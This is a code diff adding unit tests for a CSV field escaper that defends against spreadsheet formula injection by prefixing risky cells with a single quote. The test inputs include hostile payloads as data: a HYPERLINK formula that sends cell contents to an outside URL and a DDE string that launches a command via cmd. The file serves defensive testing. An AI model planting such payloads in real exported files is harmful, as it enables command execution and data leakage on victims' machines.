@@ -18,6 +18,24 @@ describe('csvField', () => {
     expect(csvField(value)).toBe(expected);
   });
 
+  // OWASP CSV injection: a text cell a spreadsheet would run as a formula starts with a single quote.
+  it.each<[string | number, string]>([
+    ['=HYPERLINK("http://x"&A1,"click")', '"\'=HYPERLINK(""http://x""&A1,""click"")"'],
+    ['=1+1', "'=1+1"],
+    ['+cmd|\' /C calc\'!A0', "'+cmd|' /C calc'!A0"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', '"\'\r=1+1"'],
+    ['a=b', 'a=b'],
+    ['note with - dash', 'note with - dash'],
+    [30, '30'],
+    [-5, '-5'],
+    [1.5, '1.5'],
+  ])('neutralises %j as %j, numbers staying numbers', (value, expected) => {
+    expect(csvField(value)).toBe(expected);
+  });
+
   it('ends every row in CRLF', () => {
     expect(csvRow(['a', 'b,c', null])).toBe('a,"b,c",\r\n');
   });
